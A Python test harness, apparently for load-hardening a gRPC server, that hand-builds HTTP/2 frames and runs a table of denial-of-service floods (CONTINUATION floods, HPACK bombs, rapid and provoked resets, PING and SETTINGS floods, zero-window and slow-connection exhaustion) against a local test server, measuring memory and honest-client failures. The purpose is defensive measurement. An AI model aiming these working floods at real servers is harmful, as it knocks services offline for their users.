"""Sends floods of HTTP/2 that no gRPC client sends, and measures their cost for a server.

    floods.py plain|tls|haproxy [NAME...]

prints a table of all floods, or of the named ones, each against a new server with a budget
of 256 MiB: the bytes sent in 4 s, the number of connections, the resident MiB of the server
(and haproxy) before the flood, at most, and a second after it, and an honest client's calls.
"""
import collections
import contextlib
import itertools
import math
import pathlib
import select
import socket
import ssl
import struct
import sys
import tempfile
import threading
import time

import deployed

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Frame types and flags, RFC 9113, section 6.
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = 0, 1, 2, 3, 4, 6
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
HEALTH = b"/grpc.health.v1.Health/Watch"
CAPABILITIES = b"/convgrad.v1.ConvGrad/GetCapabilities"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + \
        struct.pack(">BBI", kind, flags, stream) + payload


def number(value, bits):
    """Returns an HPACK integer (RFC 7541, 5.1) in the last `bits` of a byte."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    value -= most
    text = bytes([most])
    while value >= 128:
        text += bytes([value % 128 + 128])
        value //= 128
    return text + bytes([value])


def field(name, value, kind=0):
    """Returns a literal field; `kind` 0x40 adds it to the dynamic table."""
    return bytes([kind]) + number(len(name), 7) + name + \
        number(len(value), 7) + value


def request(path=HEALTH):
    return b"".join(itertools.starmap(field, (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
        (b":authority", b"localhost"), (b"te", b"trailers"),
        (b"content-type", b"application/grpc"))))


def streams():
    """Yields the odd numbers of a client's streams."""
    return itertools.count(1, 2)


def repeated(piece, size=1 << 16):
    """Yields `piece` endlessly, several at a time."""
    return itertools.repeat(piece * max(1, size // len(piece)))


def batched(pieces, size=1 << 16):
    pieces = iter(pieces)
    while True:
        batch = b"".join(itertools.islice(pieces, max(1, size // 64)))
        if not batch:
            return
        yield batch


def continuations(block):
    """Yields one block of fields that never ends."""
    yield frame(HEADERS, 0, 1, request())
    yield from repeated(frame(CONTINUATION, 0, 1, block))


def endless_field():
    yield frame(HEADERS, 0, 1, request() + b"\0" + number(1, 7) + b"a" +
                number(1 << 30, 7))
    yield from repeated(frame(CONTINUATION, 0, 1, b"x" * 16384))


def hpack_bombs():
    """Yields references to 4 KB fields of the dynamic table, a byte each."""
    kept = field(b"a", b"x" * 4000, 0x40)
    yield frame(HEADERS, END_HEADERS, 1, request() + kept)
    for stream in itertools.islice(streams(), 1, None):
        yield frame(HEADERS, END_HEADERS, stream, request() + b"\xbe" * 16000)
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def opened(path=HEALTH, count=None):
    return batched(frame(HEADERS, END_HEADERS, stream, request(path))
                   for stream in itertools.islice(streams(), count))


def rapid_resets():
    return batched(frame(HEADERS, END_HEADERS, stream, request()) +
                   frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                   for stream in streams())


def provoked_resets():
    """Makes the server reset streams, by wrong window updates."""
    return batched(frame(HEADERS, END_HEADERS, stream, request()) +
                   frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
                   for stream in streams())


def of_one_call(piece):
    yield frame(HEADERS, END_HEADERS, 1, request())
    yield from repeated(piece)


def unread_answers():
    return batched(frame(HEADERS, END_HEADERS, stream, request(CAPABILITIES)) +
                   frame(DATA, END_STREAM, stream, b"\0" * 5)
                   for stream in streams())


def then_silence(pieces):
    yield from pieces
    while True:
        yield b""


Flood = collections.namedtuple("Flood", "pieces reads acknowledges connections window",
                               defaults=(True, True, 1, 65535))
FLOODS = {
    "CONTINUATION, small fields": Flood(lambda: continuations(field(b"a", b"b") * 3000)),
    "CONTINUATION, large fields": Flood(lambda: continuations(field(b"a", b"b" * 16000))),
    "CONTINUATION, a field without end": Flood(endless_field),
    "CONTINUATION, empty": Flood(lambda: continuations(b"")),
    "HPACK bombs": Flood(hpack_bombs),
    "calls, SETTINGS not acknowledged": Flood(
        lambda: then_silence(opened(count=60000)), acknowledges=False),
    "rapid resets": Flood(rapid_resets),
    "rapid resets, SETTINGS not acknowledged": Flood(
        rapid_resets, reads=False, acknowledges=False),
    "provoked resets": Flood(provoked_resets),
    "empty DATA": Flood(lambda: of_one_call(frame(DATA, 0, 1))),
    "PING, unread": Flood(lambda: repeated(frame(PING, 0, 0, b"8 bytes.")), reads=False),
    "SETTINGS, unread": Flood(
        lambda: repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
        reads=False),
    "PRIORITY": Flood(lambda: of_one_call(frame(PRIORITY, 0, 1, b"\0\0\0\3\7"))),
    "WINDOW_UPDATE": Flood(
        lambda: of_one_call(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)))),
    "windows of zero, 20 connections": Flood(
        lambda: then_silence(itertools.islice(unread_answers(), 1)), window=0,
        connections=20),
    "begun calls, 500 connections": Flood(
        lambda: then_silence([frame(HEADERS, 0, 1, request())]), connections=500),
}


class Connection:
    """Sends `flood` as fast as the server accepts it."""

    def __init__(self, address, flood, context, source):
        self.flood = flood
        self.acknowledged = not flood.acknowledges
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=5,
                                               source_address=(source, 0))
        if context is not None:
            self.socket = context.wrap_socket(self.socket, server_hostname=host)
        self.socket.setblocking(False)
        self.pieces = flood.pieces()
        self.rest = PREFACE + frame(
            SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, flood.window))
        self.sent = 0

    def step(self):
        """Sends or reads a little. Returns False if the server has closed."""
        try:
            if self.flood.reads:
                self.read()
            self.rest = self.rest or next(self.pieces, b"")
            if self.rest:
                size = self.socket.send(self.rest)
                self.sent += size
                self.rest = self.rest[size:]
                return True
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return False
        select.select([self.socket] if self.flood.reads else [], [], [], 0.001)
        return True

    def read(self):
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError,
                                 ssl.SSLWantWriteError):
            if not self.socket.recv(1 << 16):
                raise ConnectionResetError
            if not self.acknowledged:
                self.acknowledged = True
                self.rest += frame(SETTINGS, ACK, 0)

    def close(self):
        self.socket.close()


Sent = collections.namedtuple("Sent", "bytes connections")


def send(flood, address, context, source, seconds, most=1 << 28):
    """Floods for `seconds`. Opens a new connection when one was closed."""
    end = time.monotonic() + seconds
    live, done, count = [], 0, 0
    while time.monotonic() < end:
        while len(live) < flood.connections:
            with contextlib.suppress(OSError):
                live.append(Connection(address, flood, context, source))
            count += 1
            if time.monotonic() > end:
                break
        for connection in list(live):
            if done + connection.sent < most and connection.step():
                continue
            if done + connection.sent >= most:
                time.sleep(0.05)
                continue
            live.remove(connection)
            done += connection.sent
            connection.close()
    total = done + sum(connection.sent for connection in live)
    for connection in live:
        connection.close()
    return Sent(total, count)


def resident(process):
    """Returns a process's resident MiB."""
    with open(f"/proc/{process}/status", encoding="ascii") as status:
        line = next(line for line in status if line.startswith("VmRSS:"))
    return int(line.split()[1]) / 1024


class Sampler:
    """Calls a function repeatedly in a thread while the block runs."""

    def __init__(self, pause, sample):
        self.results = []
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self.run, args=(pause, sample))

    def run(self, pause, sample):
        while not self.stopped.wait(pause):
            self.results.append(sample())

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exception):
        self.stopped.set()
        self.thread.join()


class Cost(collections.namedtuple(
        "Cost", "sent connections before peak after calls failed p99_ms")):
    """The cost of a flood. Resident MiB are lists with one number per process."""

    def row(self):
        cells = [f"{self.sent:.0f} MiB, {self.connections}"]
        cells += [", ".join(f"{mib:.0f}" for mib in each)
                  for each in (self.before, self.peak, self.after)]
        return " | ".join(cells + [f"{self.failed} of {self.calls}",
                                   f"{self.p99_ms:.0f} ms"])


def measure(flood, face, processes, source, seconds):
    """Returns the cost of a flood of `face` from the local address `source`, for `processes`
    and for an honest client."""
    def timed():
        start = time.monotonic()
        good = face.call()
        return time.monotonic() - start, good

    def residents():
        return [resident(process) for process in processes]

    before = residents()
    with Sampler(0.02, residents) as memory, Sampler(0.02, timed) as calls:
        sent = send(flood, face.address, face.context(), source, seconds)
    time.sleep(1)
    times = sorted(seconds for seconds, _ in calls.results)
    return Cost(sent.bytes / 2**20, sent.connections, before,
                [max(each) for each in zip(*memory.results)], residents(),
                len(times), sum(not good for _, good in calls.results),
                1000 * times[math.ceil(0.99 * len(times)) - 1])


class Face:
    """The server at HOST:PORT as strangers reach it: in plaintext, or by TLS with the
    authority in the file `ca`."""

    def __init__(self, address, ca=None):
        import grpc  # pylint: disable=import-outside-toplevel
        self.address = address
        self.ca = ca
        self.error = grpc.RpcError
        self.channel = grpc.insecure_channel(address) if ca is None else \
            grpc.secure_channel(address,
                                grpc.ssl_channel_credentials(ca.read_bytes()))
        self.method = self.channel.unary_unary(CAPABILITIES.decode())

    def call(self):
        """Returns whether a small call ends well within 10 s."""
        try:
            self.method(b"", timeout=10)
        except self.error:
            return False
        return True

    def context(self):
        if self.ca is None:
            return None
        context = ssl.create_default_context(cafile=self.ca)
        context.set_alpn_protocols(["h2"])
        return context


@contextlib.contextmanager
def face_of(kind, folder):
    """Yields the face of a new server, and its processes."""
    flags = ["--health_listen=127.0.0.1:0"]
    if kind == "tls":
        cert, key = deployed.certificate(folder)
        flags += [f"--tls_cert={cert}", f"--tls_key={key}"]
    with deployed.server(*flags) as server:
        if kind != "haproxy":
            ca = cert if kind == "tls" else None
            yield Face(server.address, ca), [server.process.pid]
            return
        with deployed.haproxy((server, server), folder) as proxy:
            face = Face(proxy.address, proxy.ca)
            deployed.wait_until(face.call, "an answer through haproxy")
            yield face, [server.process.pid, proxy.process.pid]


def main():
    kind, *names = sys.argv[1:]
    print("| flood | sent, connections | MiB before | at most | after | honest "
          "calls that failed | p99 |\n|---|---|---|---|---|---|---|")
    for name in names or FLOODS:
        with tempfile.TemporaryDirectory() as folder, \
                face_of(kind, pathlib.Path(folder)) as (face, processes):
            face.call()
            cost = measure(FLOODS[name], face, processes, "127.0.0.2",
                           seconds=4)
            print(f"| {name} | {cost.row()} |", flush=True)


if __name__ == "__main__":
    main()
